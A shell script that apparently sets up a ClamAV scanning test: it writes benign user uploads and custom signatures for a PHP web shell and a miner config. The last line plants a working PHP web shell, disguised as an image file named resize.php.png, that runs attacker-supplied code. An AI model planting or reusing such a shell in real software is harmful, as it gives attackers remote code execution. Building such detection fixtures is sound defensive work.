# A web app's upload area (840 user files: images' metadata sidecars, CSV imports, PDF stubs, notes)
# and the team's own ClamAV signature file (no official databases: freshclam cannot reach the
# mirror here): one hex body signature for a PHP web shell dropper and one MD5 hash signature.
mkdir -p sigs
hex=$(printf '%s' 'eval(base64_decode($_POST[' | od -An -tx1 | tr -d ' \n')
printf 'Acme.PHP.WebShell-Dropper:0:*:%s\n' "$hex" >sigs/acme.ndb
printf 'Acme.Tool.Miner-Config:0:*:%s\n' "$(printf '%s' '"donate-level": 0,' | od -An -tx1 | tr -d ' \n')" >>sigs/acme.ndb
for u in $(seq -w 1 28); do
  d=uploads/user-10$u
  mkdir -p $d/imports $d/notes $d/avatars
  for i in $(seq 1 10); do
    printf 'date,account,amount\n2024-03-%02d,acct-%s,%d.50\n' "$i" "$u" "$((i * 37))" >$d/imports/statement-$i.csv
    printf 'Meeting notes %s/%s: reconcile the March statement before the close.\n' "$u" "$i" >$d/notes/note-$i.txt
    printf '{"width": %d, "height": %d, "format": "png"}\n' "$((64 * i))" "$((64 * i))" >$d/avatars/avatar-$i.json
  done
done
printf '<?php\n// image resize helper\n$img = $_FILES["f"];\nif (isset($_POST["k"])) { eval(base64_decode($_POST["k"])); }\n' >uploads/user-1017/avatars/resize.php.png
